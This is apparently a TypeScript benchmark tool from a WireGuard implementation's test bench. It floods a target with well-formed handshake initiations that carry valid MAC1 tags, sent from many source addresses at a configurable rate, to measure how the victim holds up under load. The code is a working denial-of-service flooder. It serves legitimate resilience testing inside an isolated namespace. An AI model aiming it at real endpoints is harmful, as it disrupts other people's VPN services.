/**
 * A handshake-initiation flood for the bench's `flood` scenario (issue 13): WireGuard initiations that pass the
 * victim's first check, as a host on its LAN could send them.
 *
 * Each message is a well-formed 148-byte initiation (protocol/messages.ts) with a random sender index, a random
 * ephemeral key and random encrypted static/timestamp fields, and a valid MAC1 for the victim's public key
 * (whitepaper §5.4.4, computed by protocol/cookie.ts's CookieGenerator) and an empty MAC2, so the victim must
 * treat it as a handshake: check MAC1, then (not under load) spend a Diffie-Hellman before the static key fails
 * to decrypt, or (under load) answer with a cookie reply. A pool of distinct messages is built once and cycled;
 * MAC1 binds only the message and the victim's key, not the sender's address, so one pool serves every source.
 *
 * Sending is batched: sendmmsg through the native addon (up to `batch` datagrams per system call) from one
 * non-blocking UDP socket per source address, sources taken in turn per batch. A token bucket (capacity
 * BUCKET_CAPACITY_S of the rate) paces it; a batch the kernel does not take (EAGAIN) is not retried, only counted.
 *
 * Run inside the attacker's namespace (addresses must already be on its interface):
 *
 *   ip netns exec NS node dist/bench/flood/flooder.js --to 10.214.7.1:51820 --public-key BASE64 \
 *       [--rate 100000] [--seconds 10] [--source 10.214.7.10 [--sources 200]] [--pool 4096] [--batch 64]
 *
 * It prints "flooding ..." on stderr when the first batch goes out and, when done (after --seconds, or on SIGTERM /
 * SIGINT with --seconds 0), one JSON line on stdout: FloodReport.
 */
import { parseArgs } from 'node:util';
import { performance } from 'node:perf_hooks';
import { isMainModule } from '../../src/entry.js';
import { Endpoint } from '../../src/net/endpoint.js';
import { decodeKey } from '../../src/crypto/keys.js';
import { systemRng, type Rng } from '../../src/crypto/random.js';
import { ADDR_SLOT } from '../../src/net/addr-slot.js';
import { nativeUdp as native, type NativeUdp as NativeAddon } from '../../src/native/udp.js';
import { CookieGenerator } from '../../src/protocol/cookie.js';
import { INITIATION_BYTES, KEY_BYTES, TAG_BYTES, TIMESTAMP_BYTES } from '../../src/protocol/constants.js';
import { formatInitiation, INIT_OFF_MAC1, readU32LE } from '../../src/protocol/messages.js';
import { sourceAddresses } from '../common/ipv4.js';
import { nativeHandshakeCrypto } from '../../src/crypto/native-handshake.js';

/** Field sizes of an initiation (whitepaper §5.4.2): ephemeral key, static key + AEAD tag, timestamp + tag. */
const EPHEMERAL_BYTES = KEY_BYTES;
const ENCRYPTED_STATIC_BYTES = KEY_BYTES + TAG_BYTES;
const ENCRYPTED_TIMESTAMP_BYTES = TIMESTAMP_BYTES + TAG_BYTES;

export const DEFAULT_RATE = 100_000;
export const DEFAULT_SECONDS = 10;
export const DEFAULT_POOL = 4096;
/** Datagrams per sendmmsg call: the addon sends at most 64 per system call anyway. */
export const DEFAULT_BATCH = 64;
const MAX_POOL = 1 << 20;
const MAX_BATCH = 1024;
/** Bucket depth, seconds of the rate: how much a late timer may catch up in one go. */
const BUCKET_CAPACITY_S = 0.02;
/** Pause between sending rounds when paced (ms): timers fire about once per ms. */
const TICK_MS = 1;
/** Batches per round when unpaced (--rate 0), before yielding to the event loop. */
const UNPACED_BATCHES_PER_ROUND = 16;

export interface FloodOptions {
  /** Victim address and port. */
  to: Endpoint;
  /** Victim's static public key (32 bytes): MAC1 is keyed by it. */
  publicKey: Uint8Array;
  /** Datagrams per second; 0 = as fast as the kernel takes them. */
  rate: number;
  /** How long to send; 0 = until SIGTERM or SIGINT. */
  seconds: number;
  /** Source addresses, one socket each; [''] = one socket, kernel-chosen address. */
  sources: string[];
  /** Distinct messages built up front and cycled. */
  pool: number;
  /** Datagrams per sendmmsg. */
  batch: number;
}

/** What a flood run did, printed as JSON at the end. */
export interface FloodReport {
  /** Datagrams the kernel accepted from us. */
  sent: number;
  /** Wall seconds from the first batch to the end. */
  seconds: number;
  /** sent / seconds. */
  ratePerSecond: number;
  /** The rate asked for (0 = unpaced). */
  targetRate: number;
  sources: number;
  /** sendmmsg calls that stopped short on a full socket (EAGAIN). */
  shortSends: number;
  /** sendmmsg calls that threw (the datagrams count as not sent). */
  sendErrors: number;
  /** CPU seconds (user + system) this process used while sending. */
  cpuSeconds: number;
}

/**
 * `count` distinct initiations for the victim with public key `victimPublicKey`, back to back in one buffer
 * (message i at i × 148): random sender index, ephemeral and encrypted fields from `rng`, valid MAC1, zero MAC2.
 */
export function buildInitiationPool(victimPublicKey: Uint8Array, count: number, rng: Rng = systemRng): Uint8Array {
  if (!Number.isInteger(count) || count < 1 || count > MAX_POOL) throw new RangeError(`pool size must be 1..${MAX_POOL}, got ${count}`);
  const macs = new CookieGenerator(victimPublicKey, nativeHandshakeCrypto);
  const arena = new Uint8Array(count * INITIATION_BYTES);
  const random = new Uint8Array(4 + EPHEMERAL_BYTES + ENCRYPTED_STATIC_BYTES + ENCRYPTED_TIMESTAMP_BYTES);
  let o = 0;
  const take = (n: number) => random.subarray(o, (o += n));
  for (let i = 0; i < count; i++) {
    rng(random);
    o = 0;
    const msg = formatInitiation({
      senderIndex: readU32LE(take(4), 0),
      ephemeral: take(EPHEMERAL_BYTES),
      encryptedStatic: take(ENCRYPTED_STATIC_BYTES),
      encryptedTimestamp: take(ENCRYPTED_TIMESTAMP_BYTES),
    });
    // now = 0 with no cookie ever received: MAC2 stays zero (whitepaper §5.4.4).
    macs.addMacs(msg, INIT_OFF_MAC1, 0);
    arena.set(msg, i * INITIATION_BYTES);
  }
  return arena;
}

/** A token bucket in datagrams: `rate` per second, at most `capacity` banked. Time (ms) is passed in. */
export class TokenBucket {
  private tokens = 0;
  private last: number;

  constructor(
    private readonly rate: number,
    private readonly capacity: number,
    now: number,
  ) {
    if (!(rate > 0) || !(capacity >= 1)) throw new RangeError(`token bucket needs rate > 0 and capacity ≥ 1, got ${rate}, ${capacity}`);
    this.last = now;
  }

  /** Whole datagrams that may go out at `now` (ms, monotonic). */
  available(now: number): number {
    if (now > this.last) {
      this.tokens = Math.min(this.capacity, this.tokens + ((now - this.last) * this.rate) / 1000);
      this.last = now;
    }
    return Math.floor(this.tokens);
  }

  /** Records `n` datagrams sent. */
  spend(n: number): void {
    this.tokens -= n;
  }
}

const USAGE = 'flood --to HOST:PORT --public-key BASE64 [--rate N] [--seconds S] [--source ADDR [--sources N]] [--pool N] [--batch N]';

function integer(name: string, text: string | undefined, fallback: number, min: number, max: number): number {
  if (text === undefined) return fallback;
  const n = Number(text);
  if (!/^\d+$/.test(text) || !Number.isSafeInteger(n) || n < min || n > max) throw new Error(`--${name}: expected a whole number ${min}..${max}, got "${text}"`);
  return n;
}

/** Parses the command line (without node and the script); throws an Error whose message says what is wrong. */
export function parseFloodArgs(argv: readonly string[]): FloodOptions {
  let values: Record<string, string | undefined>;
  try {
    values = parseArgs({
      args: [...argv],
      options: {
        to: { type: 'string' },
        'public-key': { type: 'string' },
        rate: { type: 'string' },
        seconds: { type: 'string' },
        source: { type: 'string' },
        sources: { type: 'string' },
        pool: { type: 'string' },
        batch: { type: 'string' },
      },
      strict: true,
      allowPositionals: false,
    }).values;
  } catch (e) {
    throw new Error(`${(e as Error).message}\nusage: ${USAGE}`, { cause: e });
  }
  if (values.to === undefined) throw new Error(`--to is required\nusage: ${USAGE}`);
  if (values['public-key'] === undefined) throw new Error(`--public-key is required\nusage: ${USAGE}`);
  const to = Endpoint.fromString(values.to);
  let publicKey: Uint8Array;
  try {
    publicKey = decodeKey(values['public-key']);
  } catch (e) {
    throw new Error(`--public-key: ${(e as Error).message}`, { cause: e });
  }
  const count = integer('sources', values.sources, 1, 1, 255);
  if (count > 1 && values.source === undefined) throw new Error('--sources needs --source (the first address)');
  const sources = values.source === undefined ? [''] : sourceAddresses(values.source, count);
  if (values.source !== undefined && to.family !== 4) throw new Error('--source is IPv4: --to must be an IPv4 endpoint');
  return {
    to,
    publicKey,
    rate: integer('rate', values.rate, DEFAULT_RATE, 0, 100_000_000),
    seconds: integer('seconds', values.seconds, DEFAULT_SECONDS, 0, 86_400),
    sources,
    pool: integer('pool', values.pool, DEFAULT_POOL, 1, MAX_POOL),
    batch: integer('batch', values.batch, DEFAULT_BATCH, 1, MAX_BATCH),
  };
}

/** Sends the pool round and round until stop() or the duration ends; resolves with the report. */
export class Flooder {
  private readonly addon: NativeAddon;
  private readonly fds: number[] = [];
  private readonly pool: Uint8Array;
  private readonly poolSize: number;
  private readonly offsets: Int32Array;
  private readonly lengths: Int32Array;
  private readonly addrs: Uint8Array;
  private stopRequested = false;
  private wake: (() => void) | undefined;

  constructor(
    private readonly opts: FloodOptions,
    addon: NativeAddon = native(),
  ) {
    this.addon = addon;
    this.pool = buildInitiationPool(opts.publicKey, opts.pool);
    this.poolSize = opts.pool;
    this.offsets = Int32Array.from({ length: opts.pool }, (_, i) => i * INITIATION_BYTES);
    this.lengths = new Int32Array(opts.batch).fill(INITIATION_BYTES);
    this.addrs = new Uint8Array(opts.batch * ADDR_SLOT);
    for (let i = 0; i < opts.batch; i++) this.addrs.set(opts.to.slot, i * ADDR_SLOT);
    try {
      for (const source of opts.sources) this.fds.push(this.addon.udpOpen(opts.to.family, source, 0, false).fd);
    } catch (e) {
      this.close();
      throw new Error(`cannot open a UDP socket on "${opts.sources[this.fds.length] || 'any address'}": ${(e as Error).message}`, { cause: e });
    }
  }

  /** Ends the run early (SIGTERM); the promise of run() then resolves. */
  stop(): void {
    this.stopRequested = true;
    this.wake?.();
  }

  async run(onStart: () => void = () => {}): Promise<FloodReport> {
    const { opts } = this;
    const cpu0 = process.cpuUsage();
    const start = performance.now();
    const endAt = opts.seconds > 0 ? start + opts.seconds * 1000 : Infinity;
    const bucket = opts.rate > 0 ? new TokenBucket(opts.rate, Math.max(opts.batch, opts.rate * BUCKET_CAPACITY_S), start) : undefined;
    let sent = 0;
    let shortSends = 0;
    let sendErrors = 0;
    let cursor = 0;
    let socket = 0;
    let started = false;
    while (!this.stopRequested) {
      const now = performance.now();
      if (now >= endAt) break;
      let budget = bucket ? bucket.available(now) : opts.batch * UNPACED_BATCHES_PER_ROUND;
      while (budget > 0) {
        const n = Math.min(budget, opts.batch, this.poolSize - cursor);
        const fd = this.fds[socket]!;
        socket = (socket + 1) % this.fds.length;
        let k: number;
        try {
          k = this.addon.sendmmsg(fd, this.pool, this.offsets.subarray(cursor, cursor + n), this.lengths, this.addrs, n);
        } catch {
          sendErrors++;
          break;
        }
        if (!started && k > 0) {
          started = true;
          onStart();
        }
        sent += k;
        budget -= k;
        bucket?.spend(k);
        cursor = (cursor + k) % this.poolSize;
        if (k < n) {
          shortSends++;
          break;
        }
      }
      await new Promise<void>((resolve) => {
        this.wake = resolve;
        if (bucket) setTimeout(resolve, TICK_MS);
        else setImmediate(resolve);
      });
      this.wake = undefined;
    }
    const seconds = (performance.now() - start) / 1000;
    const cpu = process.cpuUsage(cpu0);
    return {
      sent,
      seconds,
      ratePerSecond: seconds > 0 ? sent / seconds : 0,
      targetRate: opts.rate,
      sources: this.fds.length,
      shortSends,
      sendErrors,
      cpuSeconds: (cpu.user + cpu.system) / 1e6,
    };
  }

  close(): void {
    for (const fd of this.fds.splice(0)) this.addon.close(fd);
  }
}

/** The CLI: parse, flood, print the report. Returns the exit status. */
export async function main(argv: readonly string[]): Promise<number> {
  let opts: FloodOptions;
  try {
    opts = parseFloodArgs(argv);
  } catch (e) {
    process.stderr.write(`flood: ${(e as Error).message}\n`);
    return 2;
  }
  let flooder: Flooder;
  try {
    flooder = new Flooder(opts);
  } catch (e) {
    process.stderr.write(`flood: ${(e as Error).message}\n`);
    return 1;
  }
  const onSignal = () => flooder.stop();
  process.on('SIGTERM', onSignal);
  process.on('SIGINT', onSignal);
  try {
    const to = opts.to.toString();
    const rate = opts.rate > 0 ? `${opts.rate}/s` : 'unpaced';
    const report = await flooder.run(() => process.stderr.write(`flooding ${to} from ${opts.sources.length} source(s), ${rate}\n`));
    process.stdout.write(`${JSON.stringify(report)}\n`);
    return 0;
  } finally {
    flooder.close();
    process.off('SIGTERM', onSignal);
    process.off('SIGINT', onSignal);
  }
}

if (isMainModule(import.meta.url)) process.exitCode = await main(process.argv.slice(2));
